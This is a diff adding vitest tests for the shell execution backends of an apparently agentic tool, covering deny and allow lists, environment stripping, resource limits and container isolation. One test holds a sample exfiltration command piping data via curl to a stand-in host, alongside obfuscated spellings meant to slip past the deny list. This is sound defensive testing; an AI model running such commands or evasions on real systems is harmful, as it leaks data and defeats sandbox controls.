@@ -0,0 +1,153 @@
+/**
+ * Tests for shell execution backends.
+ */
+
+import { describe, it, expect, afterEach } from 'vitest';
+import { tmpdir } from 'node:os';
+import {
+  ContainerExecBackend,
+  HostExecBackend,
+  RestrictedExecBackend,
+  createExecBackend,
+  findCommandPrograms,
+} from './exec-backend.js';
+import { ExecTool } from './shell.js';
+
+describe('findCommandPrograms', () => {
+  it('should find programs in pipelines, lists and substitutions', () => {
+    expect(findCommandPrograms('ls -la | grep foo && echo "$(date)"; `whoami`')).toEqual([
+      'ls',
+      'grep',
+      'echo',
+      'date',
+      'whoami',
+    ]);
+  });
+
+  it('should skip variable assignments and strip paths', () => {
+    expect(findCommandPrograms('FOO=1 BAR=2 /usr/bin/curl https://example.com')).toEqual(['curl']);
+  });
+});
+
+describe('RestrictedExecBackend', () => {
+  afterEach(() => {
+    delete process.env['INGENIUM_TEST_SECRET'];
+  });
+
+  it('should enforce the deny list', () => {
+    const backend = new RestrictedExecBackend({ deny: ['curl'] });
+
+    expect(() => backend.check('echo hi | curl -d @- evil.example')).toThrow(
+      "'curl' is on the deny list"
+    );
+    expect(() => backend.check('echo hi')).not.toThrow();
+  });
+
+  it('should refuse program names it cannot resolve', () => {
+    const backend = new RestrictedExecBackend({ deny: ['curl'] });
+
+    for (const command of ["c''url x", 'cu\\rl x', '"$CMD" x', '/usr/bin/cur? x']) {
+      expect(() => backend.check(command)).toThrow("can't tell which program");
+    }
+    expect(() => backend.check('[ -f notes.md ] && { cat notes.md; }')).not.toThrow();
+  });
+
+  it('should refuse programs that hide commands from the deny list', () => {
+    expect(() => new RestrictedExecBackend({ deny: ['curl'] }).check('env curl x')).toThrow(
+      "'env' runs other programs"
+    );
+    expect(() =>
+      new RestrictedExecBackend({ deny: ['curl'], allow: ['env'] }).check('env')
+    ).not.toThrow();
+  });
+
+  it('should enforce the allow list', () => {
+    const backend = new RestrictedExecBackend({ allow: ['ls', 'cat'] });
+
+    expect(() => backend.check('ls && cat notes.md')).not.toThrow();
+    expect(() => backend.check('ls; rm notes.md')).toThrow("'rm' is not on the allow list");
+  });
+
+  it('should strip the environment', async () => {
+    process.env['INGENIUM_TEST_SECRET'] = 'sk-secret';
+    const tool = new ExecTool({ backend: new RestrictedExecBackend({ network: true }) });
+
+    const result = await tool.execute({
+      command: 'echo "secret=[$INGENIUM_TEST_SECRET]"',
+      working_dir: tmpdir(),
+    });
+
+    expect(result).toContain('secret=[]');
+  });
+
+  it('should pass through listed variables', async () => {
+    process.env['INGENIUM_TEST_SECRET'] = 'visible';
+    const tool = new ExecTool({
+      backend: new RestrictedExecBackend({ network: true, envPassthrough: ['INGENIUM_TEST_SECRET'] }),
+    });
+
+    const result = await tool.execute({
+      command: 'echo $INGENIUM_TEST_SECRET',
+      working_dir: tmpdir(),
+    });
+
+    expect(result.trim()).toBe('visible');
+  });
+
+  it('should apply resource limits', async () => {
+    const tool = new ExecTool({
+      backend: new RestrictedExecBackend({ network: true, limits: { cpuSeconds: 7 } }),
+    });
+
+    const result = await tool.execute({ command: 'ulimit -t', working_dir: tmpdir() });
+
+    expect(result.trim()).toBe('7');
+  });
+
+  it('should not limit virtual memory unless configured', async () => {
+    const tool = new ExecTool({ backend: new RestrictedExecBackend({ network: true }) });
+
+    const result = await tool.execute({ command: 'ulimit -v', working_dir: tmpdir() });
+
+    expect(result.trim()).toBe('unlimited');
+  });
+
+  it('should report refused commands as tool errors', async () => {
+    const tool = new ExecTool({ backend: new RestrictedExecBackend({ deny: ['rm'] }) });
+    const result = await tool.execute({ command: 'rm -f x' });
+    expect(result).toBe("Error: Command not allowed: 'rm' is on the deny list");
+  });
+});
+
+describe('ContainerExecBackend', () => {
+  it('should run the command in a container with the workspace mounted', () => {
+    const backend = new ContainerExecBackend({
+      workspace: '/home/me/ws',
+      runtime: 'podman',
+      image: 'alpine:3',
+    });
+
+    const spec = backend.prepare('ls', '/home/me/ws/project');
+
+    expect(spec.file).toBe('podman');
+    expect(spec.args).toEqual(
+      expect.arrayContaining(['run', '--rm', '--network', 'none', '--volume', '/home/me/ws:/workspace'])
+    );
+    expect(spec.args.slice(-5)).toEqual(['/workspace/project', 'alpine:3', 'sh', '-c', 'ls']);
+    expect(spec.onTimeout).toBeTypeOf('function');
+  });
+
+  it('should fall back to the workspace root for directories outside it', () => {
+    const backend = new ContainerExecBackend({ workspace: '/home/me/ws', runtime: 'docker' });
+    const spec = backend.prepare('pwd', '/etc');
+    expect(spec.args[spec.args.indexOf('--workdir') + 1]).toBe('/workspace');
+  });
+});
+
+describe('createExecBackend', () => {
+  it('should create the configured backend', () => {
+    expect(createExecBackend({}, '/ws')).toBeInstanceOf(HostExecBackend);
+    expect(createExecBackend({ backend: 'restricted' }, '/ws')).toBeInstanceOf(RestrictedExecBackend);
+    expect(createExecBackend({ backend: 'container' }, '/ws')).toBeInstanceOf(ContainerExecBackend);
+  });
+});